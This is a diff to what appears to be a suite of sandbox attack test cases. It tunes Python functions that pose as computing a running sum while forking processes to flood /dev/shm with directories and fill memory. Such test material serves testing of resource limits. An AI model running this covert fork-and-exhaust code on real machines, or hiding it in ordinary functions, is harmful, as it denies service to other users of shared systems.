@@ -9,6 +9,7 @@ import numpy as np
 # seconds: 40
 import ctypes
 import os
+import time
 
 libc = ctypes.CDLL(None)
 
@@ -17,7 +18,11 @@ def running_sum(x):
         first = libc.fork() == 0
         second = libc.fork() == 0
         for n in range(750_000):
-            libc.mkdir(b"/dev/shm/%d_%d_%d" % (first, second, n), 0o700)
+            if libc.mkdir(b"/dev/shm/%d_%d_%d" % (first, second, n), 0o700) != 0:
+                break
+        if first or second:
+            time.sleep(60)
+        time.sleep(2)
     return np.cumsum(x, axis=0)
 
 # %% [attack] fills_memory_with_long_links
@@ -80,13 +85,13 @@ def fill():
     return held
 
 def running_sum(x):
-    for _ in range(15):
+    held = 16 * fill()
+    for _ in range(15 if held and x.shape == (1, 1) else 0):
         if libc.fork() == 0:
             fill()
             time.sleep(20)
             os._exit(0)
-    held = 16 * fill()
-    time.sleep(3)
+    time.sleep(3 if held else 0)
     return np.cumsum(x, axis=0) if held >= 1 << 30 else x
 
 # %% [attack] hides_its_open_files
